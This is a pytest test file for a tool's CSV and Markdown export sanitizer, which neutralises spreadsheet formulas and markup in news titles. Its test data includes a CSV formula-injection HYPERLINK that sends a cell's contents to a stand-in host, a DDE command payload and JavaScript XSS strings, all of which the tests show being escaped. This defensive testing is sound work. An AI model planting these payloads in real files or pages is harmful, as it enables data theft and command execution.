"""Spreadsheet-safe cells and escaped Markdown: unit rules, then hostile titles through `export`."""

import csv
import io

import pytest
from conftest import SAMPLES
from typer.testing import CliRunner

from digest.cli import app
from digest.sanitize import is_formula_like, md_inline, md_text, spreadsheet_cell

runner = CliRunner()


@pytest.mark.parametrize("cell", [
    "=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n1", "\0x", " =1", "\u3000=1",
    "\u200b=1", "\ufeff@x", "＝1+1", "＋1", "－1", "＠SUM(A1)", "=HYPERLINK(\"http://e.x\",\"a\")",
])
def test_formula_like_cells_get_an_apostrophe(cell):
    assert is_formula_like(cell)
    assert spreadsheet_cell(cell) == "'" + cell


@pytest.mark.parametrize("value", [
    "长三角 =1", "a-b", "'=1", "", "   ", "G60 科创贷", "2020-12-18", 3, -3, 1.5, None,
])
def test_text_and_numbers_stay_as_they_are(value):
    assert spreadsheet_cell(value) == value


def test_markdown_escapes_markup_so_the_text_renders_as_written():
    assert md_text("<script>alert(1)</script>") == "&lt;script&gt;alert(1)&lt;/script&gt;"
    assert md_text("[x](javascript:alert(1))") == "\\[x\\](javascript&#58;alert(1))"
    assert md_text("<JavaScript :x>") == "&lt;JavaScript &#58;x&gt;"
    assert md_text("a | b * c _d_ `e` ~f~ #g \\h &i") == (
        "a \\| b \\* c \\_d\\_ \\`e\\` \\~f\\~ \\#g \\\\h &amp;i")
    assert md_text("# 标题") == "\\# 标题"
    assert md_text("- 一\n+ 二\n  = 三\n1. 四\n2) 五") == "\\- 一\n\\+ 二\n  \\= 三\n1\\. 四\n2\\) 五"
    assert md_text("上海自贸区启动“全球营运商计划”，2020-12-18。") == "上海自贸区启动“全球营运商计划”，2020-12-18。"


def test_markdown_inline_text_stays_on_one_line():
    assert md_inline("标题\n# 注入\r\n| a |") == "标题 \\# 注入 \\| a \\|"


HOSTILE_TITLES = {
    "上海自贸区启动“全球营运商计划”": '=HYPERLINK("http://e.x/?"&A1,"上海自贸区")启动计划',
    "“长三角生物医药产业服务发展联盟”在上海正式启动":
        "@SUM(1+1)*cmd|' /C calc'!A0 联盟 <b>x</b> [点此](javascript:alert(1)) # | *启动*",
}


@pytest.fixture
def hostile_issue(tmp_path):
    """The sample's text extraction with two titles rewritten as an attacker would."""
    text = (SAMPLES / "issue-200.pdftotext-layout.txt").read_text(encoding="utf-8")
    for title, evil in HOSTILE_TITLES.items():
        assert title in text
        text = text.replace(title, evil)
    path = tmp_path / "hostile.txt"
    path.write_text(text, encoding="utf-8")
    return str(path)


def export(*args):
    result = runner.invoke(app, ["export", *args])
    assert result.exit_code == 0, result.stderr
    return result.stdout


def csv_cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_csv_has_no_cell_a_spreadsheet_would_evaluate(hostile_issue):
    cells = csv_cells(export(hostile_issue, "--format", "csv"))
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    titles = set(cells)
    assert "'" + HOSTILE_TITLES["上海自贸区启动“全球营运商计划”"] in titles
    assert "'" + HOSTILE_TITLES["“长三角生物医药产业服务发展联盟”在上海正式启动"] in titles


def test_raw_csv_keeps_the_text_as_stored(hostile_issue):
    cells = csv_cells(export(hostile_issue, "--format", "csv", "--raw"))
    assert HOSTILE_TITLES["上海自贸区启动“全球营运商计划”"] in cells
    assert not [c for c in cells if c.startswith("'=")]


def test_markdown_export_shows_hostile_titles_as_text(hostile_issue):
    md = export(hostile_issue, "--format", "md")
    assert ("## @SUM(1+1)\\*cmd\\|' /C calc'!A0 联盟 &lt;b&gt;x&lt;/b&gt; "
            "\\[点此\\](javascript&#58;alert(1)) \\# \\| \\*启动\\*") in md.splitlines()
    assert "<b>" not in md and "javascript:" not in md
    raw = export(hostile_issue, "--format", "md", "--raw")
    assert "<b>x</b>" in raw
